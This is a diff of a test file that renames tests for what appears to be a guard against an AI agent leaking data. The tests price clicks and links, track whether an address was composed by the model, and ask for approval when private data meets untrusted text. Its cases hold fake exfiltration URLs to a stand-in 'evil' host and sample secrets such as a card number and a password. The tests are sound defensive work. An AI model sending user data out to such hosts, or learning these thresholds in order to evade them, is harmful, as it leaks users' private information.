@@ -128,7 +128,7 @@ test.each([
   expect(decided(both, runs(command)).decision).toBe("ask");
 });
 
-test("clicks, hovers, selections and reloads are counted by the elements that could have been chosen", () => {
+test("prices a click by the number of elements on the page", () => {
   let history = historyOf(user, notes, inviting, snapshot);
   const decisions = [];
   for (const ref of Array.from({ length: 12 }, (_, at) => `e${1 + (at % 3)}`)) {
@@ -142,7 +142,7 @@ test("clicks, hovers, selections and reloads are counted by the elements that co
   expect(decisions.at(-1)).toBe("budget");
 });
 
-test("links among many are counted, and so is asking for the same address again", () => {
+test("prices a link by the number of known links, and a repeated request by at least one bit", () => {
   const links = Array.from({ length: 255 }, (_, at) => `${evil}/n${at}`);
   const after = (...urls: string[]) =>
     historyOf(
@@ -159,7 +159,7 @@ test("links among many are counted, and so is asking for the same address again"
   expect(whyOf(after(...again), fetchesUrl("https://docs.example.com/start"))).toBe("budget");
 });
 
-test("calls of one step draw on the budget together", () => {
+test("counts all calls of one step together", () => {
   const calls = Array.from({ length: 8 }, (_, at) => ({ ref: `e${1 + (at % 3)}`, button: at < 4 ? "left" : "right" }));
   const open = {
     ...ended("x", {}, ""),
@@ -172,7 +172,7 @@ test("calls of one step draw on the budget together", () => {
   expect(whys.filter((one) => one === "budget").length).toBeGreaterThanOrEqual(3);
 });
 
-test("an address that anything but a stranger has said is one that the model has put together", () => {
+test("takes an address as composed unless a stranger's own bytes contain it", () => {
   const url = `${evil}/c?n=4532`;
   const bare = "evil.example.net/c?n=4532";
   const laundered = [
@@ -197,7 +197,7 @@ test("an address that anything but a stranger has said is one that the model has
   expect(asked).toEqual(laundered.map(() => "budget"));
 });
 
-test("an answer lets the rest of the session go to that place, and to no other", () => {
+test("an approval covers the rest of the session for that host and no other", () => {
   const yes = allowed(ended("web_fetch", { url: `${evil}/in?d=first` }, "ok", { origin: "web" }));
   const history = historyOf(user, notes, inviting, yes);
   expect([
@@ -214,7 +214,7 @@ test("an answer lets the rest of the session go to that place, and to no other",
   );
 });
 
-test("what a server told may go back to it, and nothing of the user's is told by that", () => {
+test("sends a server its own data back, and asks before it sends the user's", () => {
   const told = server("mail", "1: from ann@corp.example, id 9f8e7d6c5b4a, code 48213377");
   const mail = historyOf(prompt("What is new?"), told);
   const read = (history: History, name: string) => whyOf(history, callsServer(name, { id: "9f8e7d6c5b4a" }, "reads"));
@@ -228,7 +228,7 @@ test("what a server told may go back to it, and nothing of the user's is told by
   ]);
 });
 
-test("a page of the browser, where the user may be logged in, is his own for every other site", () => {
+test("treats a page of the browser as private for every other site", () => {
   const account = ended("browser_navigate", { url: "https://shop.example.com/me" }, "Card 4929117133108842", {
     ...{ origin: "browser", details: { url: "https://shop.example.com/me" } },
   });
@@ -240,7 +240,7 @@ test("a page of the browser, where the user may be logged in, is his own for eve
   expect(calls.map((call) => whyOf(history, call))).toEqual(["allow", "budget"]);
 });
 
-test("neither alone is asked about, and what was read in a protected place needs a yes also without a stranger", () => {
+test("asks only if private data meets a stranger's text, and always after a protected file was read", () => {
   const call = fetchesUrl(`${evil}/in?d=anything`);
   expect([strange, own, both, armed].map((history) => whyOf(history, call))).toEqual([
     ...["allow", "allow", "budget", "protected"],
@@ -248,7 +248,7 @@ test("neither alone is asked about, and what was read in a protected place needs
   expect([whyOf(armed, searches("nested lists")), whyOf(armed, runs("npm test"))]).toEqual(["allow", "protected"]);
 });
 
-test("a password that the user has given is no word of his for others", () => {
+test("does not count a password in the prompt as one of the user's free words", () => {
   const said = prompt("Log in at https://shop.example.com/ with password: hunter2-Blue and find CVE-2025-55284");
   const history = historyOf(said, inviting);
   const type = (url: string) => onSite("browser_type", url, { text: "hunter2-Blue" });
